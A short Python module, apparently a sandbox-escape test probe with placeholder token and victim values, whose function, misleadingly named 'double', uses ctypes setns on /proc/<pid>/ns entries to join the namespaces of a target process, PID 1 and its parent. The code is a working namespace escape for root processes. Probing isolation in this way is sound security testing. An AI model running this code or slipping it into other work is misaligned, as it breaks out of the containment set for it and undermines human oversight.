"""Enters the namespaces of another process, outside of whatever it was put into."""
# depends: on the user, who must be root

import ctypes
import os

TOKEN = "@TOKEN@"


def double(x):
    libc = ctypes.CDLL(None, use_errno=True)
    for process in ("@VICTIM@", "1", str(os.getppid())):
        for kind in ("uts", "ipc", "net", "mnt", "user"):
            try:
                descriptor = os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            if libc.setns(descriptor, 0) == 0:
                print(TOKEN, kind)
    return None
